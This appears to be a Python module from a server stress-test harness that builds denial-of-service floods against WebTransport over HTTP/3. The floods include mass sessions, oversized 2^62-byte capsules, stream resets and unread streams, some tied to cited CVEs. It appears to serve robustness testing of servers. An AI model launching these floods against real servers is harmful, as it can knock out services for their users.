"""Floods of WebTransport sessions, their streams, datagrams and capsules."""

import time

from attack import Attack
from client import BIDI_SIGNAL, CLOSE_CAPSULE, DEADLINE, UNI_TYPE, close_capsule
from flooder import Flooder, packed
from peer import data, datagram, max_stream_data, reset_stream, session_request, varint

# What an application's code 0 is on the wire.
WT_CODE_0 = 0x52E4A40FA8DB
ECHO = session_request("/wt/echo")
UNKNOWN_CAPSULE, DATAGRAM_CAPSULE = 0x17, 0x00


def session(url, path="/wt/echo", **arguments):
    """A peer with an open session on stream 0."""
    peer = Flooder(url, **arguments)
    peer.put(peer.open(session_request(path)) + max_stream_data(0, 1 << 40))
    deadline = time.monotonic() + DEADLINE
    while not peer.answer:
        peer.poll()
        if time.monotonic() > deadline:
            raise TimeoutError(f"no session within {DEADLINE} s")
    return peer


def sessions(content, fin=False, least=0):
    def act(url, until):
        peer = Flooder(url)
        enough = lambda: peer.next_bidi > 4 * least
        found = peer.flood(packed(lambda: peer.open(content, fin)), until, enough=enough, repeats=least > 0)
        return found | {"asked": peer.next_bidi // 4}

    return act


def early(url, until):
    """Streams and datagrams of a session that never comes."""
    peer = Flooder(url)
    peer.next_bidi = 4

    def one():
        frames = datagram(varint(0) + b"early")
        for opened in (
            peer.open_uni(varint(UNI_TYPE) + varint(0) + b"x" * 30),
            peer.open(varint(BIDI_SIGNAL) + varint(0) + b"y" * 30),
        ):
            frames += opened or b""
        return frames

    return peer.flood(packed(one, 1000), until)


def capsules(part, first=b""):
    """DATA frames on the CONNECT stream."""

    def act(url, until):
        peer = session(url)
        begin = first

        def make():
            nonlocal begin
            frame = peer.more(0, (data(begin) if begin else b"") + part)
            begin = begin if frame is None else b""
            return frame

        return peer.flood(make, until)

    return act


def datagrams(**arguments):
    def act(url, until):
        peer = session(url, **arguments)
        return peer.flood(packed(lambda: datagram(varint(0) + b"x" * 20)), until)

    return act


def streams(content, behind=lambda peer: b"", least=0):
    def act(url, until):
        peer = session(url)

        def one():
            frame = peer.open(content)
            return None if frame is None else frame + behind(peer)

        found = peer.flood(packed(one), until, enough=lambda: peer.next_bidi > 4 * least, repeats=least > 0)
        return found | {"streams": peer.next_bidi // 4}

    return act


def streams_of_the_server(url, until):
    peer = session(url, "/wt/echo?open=100000")
    peer.put(b"\x12" + varint(1 << 40) + b"\x13" + varint(1 << 40))
    return peer.flood(lambda: b"\x01", until, burst=1, pause=0.01)


BIDI = varint(BIDI_SIGNAL) + varint(0)
# More than a connection may have at a time, which is 1000.
MANY = {"streams": lambda count: count >= 2000}
TOO_MANY = ("H3_REQUEST_REJECTED",)

ATTACKS = [
    Attack("wt-sessions", "a thousand sessions on a connection", sessions(ECHO), resets=TOO_MANY),
    Attack(
        "wt-sessions-closed", "sessions that are closed at once",
        sessions(ECHO + data(close_capsule(0, b"")), True, 2000), resets=TOO_MANY,
        found={"asked": lambda count: count >= 2000}, close=(None, "H3_EXCESSIVE_LOAD"),
    ),
    Attack(
        "wt-early", "streams and datagrams of a session that never comes", early,
        resets=("WT_BUFFERED_STREAM_REJECTED",),
    ),
    Attack(
        "wt-capsules", "capsules of an unknown type (GO-2026-6099)",
        capsules(data((varint(UNKNOWN_CAPSULE) + varint(3) + b"abc") * 200)),
    ),
    Attack(
        "wt-capsule-endless", "a capsule of an unknown type and of 2^62 bytes (GO-2026-6099)",
        capsules(data(bytes(1000)), varint(UNKNOWN_CAPSULE) + varint(2**62 - 1)),
    ),
    Attack(
        "wt-close-endless", "a CLOSE capsule of 2^62 bytes (CVE-2026-21434)",
        capsules(data(bytes(1000)), varint(CLOSE_CAPSULE) + varint(2**62 - 1)), resets=("H3_MESSAGE_ERROR",),
    ),
    Attack(
        "wt-capsule-datagram", "a DATAGRAM capsule of 2^40 bytes",
        capsules(data(bytes(1000)), varint(DATAGRAM_CAPSULE) + varint(1 << 40)), resets=("H3_MESSAGE_ERROR",),
    ),
    Attack("wt-capsules-empty", "empty DATAGRAM capsules, each in a DATA frame", capsules(data(b"\0\0") * 250)),
    Attack("wt-datagrams", "datagrams that are echoed", datagrams()),
    Attack("wt-datagrams-unacknowledged", "the same, without acknowledgements", datagrams(acknowledges=False)),
    Attack(
        "wt-streams-reset", "streams that are reset at once (CVE-2026-21438)",
        streams(BIDI + b"hello", lambda peer: reset_stream(peer.opened, WT_CODE_0, len(BIDI) + 5), 2000),
        resets=("H3_REQUEST_CANCELLED",), found={"streams": lambda count: count >= 1000}, close="H3_EXCESSIVE_LOAD",
    ),
    Attack("wt-streams-unread", "streams whose echo nobody reads", streams(BIDI + b"x" * 1000)),
    Attack("wt-streams-cut", "streams with half of their signal", streams(b"\x40")),
    Attack(
        "wt-streams-of-the-server", "100 000 streams that the server opens and nobody reads", streams_of_the_server,
    ),
]

